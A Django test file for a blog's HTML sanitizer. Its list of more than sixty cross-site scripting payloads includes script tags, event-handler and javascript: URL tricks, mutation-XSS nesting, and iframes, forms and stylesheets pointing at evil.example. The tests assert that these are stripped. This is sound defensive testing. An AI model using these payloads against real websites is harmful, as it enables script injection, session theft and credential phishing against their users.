import re

from django.test import SimpleTestCase

from shs.blog.html import IMAGES, clean, difference, excerpt, plain_text

OURS = f"{IMAGES}6f1ed002-ab5e-4a3a-9d1c-0b8f3d6c2a11"
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img src=`javascript:alert(1)`>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img src='//evil.example/pixel.gif'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    f"<img src='{OURS}/../../../auth/logout'>",
    f"<img src='{OURS}?x=1'>",
    "<img src='/api/v1/auth/profile'>",
    f"<img src='{OURS}' onload=alert(1)>",
    f"<img srcset='https://evil.example/a 1x' src='{OURS}'>",
    "<img/src/onerror=alert(1)>",
    "<img alt='a>b' src=x onerror=alert(1)>",
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/admin/logout/'>x</a>",
    "<a href='https://ok.example' onclick='alert(1)'>x</a>",
    "<a href='https://ok.example' style='position:fixed;inset:0'>x</a>",
    "<a href='https://ok.example' target='_blank' rel='opener'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea><script>alert(1)</script></textarea>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel='stylesheet' href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p class='shs-button' id='login'>x</p>",
    "<div onmouseover='alert(1)'>x</div>",
    "<body onload=alert(1)>x",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<table background='javascript:alert(1)'><tr><td colspan='1\" onclick=\"alert(1)'>x</td></tr></table>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
]
TAG = re.compile(r"<(/?)([a-z0-9]+)([^>]*)>")
ATTRIBUTE = re.compile(r'\s([a-z-]+)="([^"]*)"')
KEPT = {"href", "rel", "title", "src", "alt", "colspan", "rowspan"}
HARMLESS = set("p div h1 h2 h3 h4 ul ol li blockquote pre figure figcaption hr br table thead tbody tr td th".split())  # noqa: SIM905
HARMLESS |= {"strong", "b", "em", "i", "u", "del", "s", "sub", "sup", "code", "a", "img"}


class Attacks(SimpleTestCase):
    def test_there_are_at_least_sixty(self):
        self.assertGreaterEqual(len(set(ATTACKS)), 60)

    def test_no_script_and_no_external_resource_is_left(self):
        for attack in ATTACKS:
            with self.subTest(attack):
                left = clean(f"<p>before</p>{attack}<p>after</p>")
                self.assertIn("<p>before</p>", left)
                for _end, tag, attributes in TAG.findall(left):
                    self.assertIn(tag, HARMLESS)
                    for name, value in ATTRIBUTE.findall(attributes):
                        self.assertIn(name, KEPT)
                        if name == "src":
                            self.assertEqual(value, OURS)
                        if name == "href":
                            self.assertRegex(value, r"^(https?://|mailto:)")
                rest = TAG.sub("", left)
                self.assertNotIn("<", rest)
                self.assertNotIn("alert(1)</", left)

    def test_sanitizing_is_idempotent(self):
        for attack in ATTACKS:
            with self.subTest(attack):
                self.assertEqual(clean(clean(attack)), clean(attack))


class AllowedMarkup(SimpleTestCase):
    def test_the_markup_of_articles_is_kept(self):
        html = "<h2>Signs</h2><p>A <strong>strong</strong> <em>fever</em></p><ul><li>one</li></ul>"
        self.assertEqual(clean(html), html)

    def test_links_get_rel_nofollow(self):
        self.assertEqual(
            clean('<a href="https://who.int/x">WHO</a>'),
            '<a href="https://who.int/x" rel="nofollow noopener noreferrer ugc">WHO</a>',
        )

    def test_own_images_are_kept_and_others_removed(self):
        self.assertEqual(clean(f'<img src="{OURS}" alt="Hands">'), f'<img src="{OURS}" alt="Hands">')
        self.assertEqual(clean('<img src="https://who.int/x.png" alt="a > b">'), "")


class PlainText(SimpleTestCase):
    def test_plain_text_has_a_line_for_each_block(self):
        self.assertEqual(plain_text("<h2>One</h2><p>two &amp;\n three<br>four</p>"), "One\ntwo & three\nfour")

    def test_an_excerpt_is_short_and_has_no_tags(self):
        self.assertEqual(excerpt("<p>Short.</p><p>Text.</p>"), "Short. Text.")
        self.assertLessEqual(len(excerpt("<p>" + "word " * 500 + "</p>")), 240)

    def test_a_diff_marks_removed_and_added_text_and_escapes_it(self):
        found = difference("<p>Take two tablets</p>", "<p>Take three &lt;b&gt; tablets</p>")
        self.assertEqual(found, "Take <del>two</del> <ins>three &lt;b&gt;</ins> tablets")

    def test_a_changed_link_target_is_in_the_diff(self):
        found = difference('<a href="https://who.int">WHO</a>', '<a href="https://evil.example">WHO</a>')
        self.assertIn("<del>[https://who.int]</del> <ins>[https://evil.example]</ins>", found)
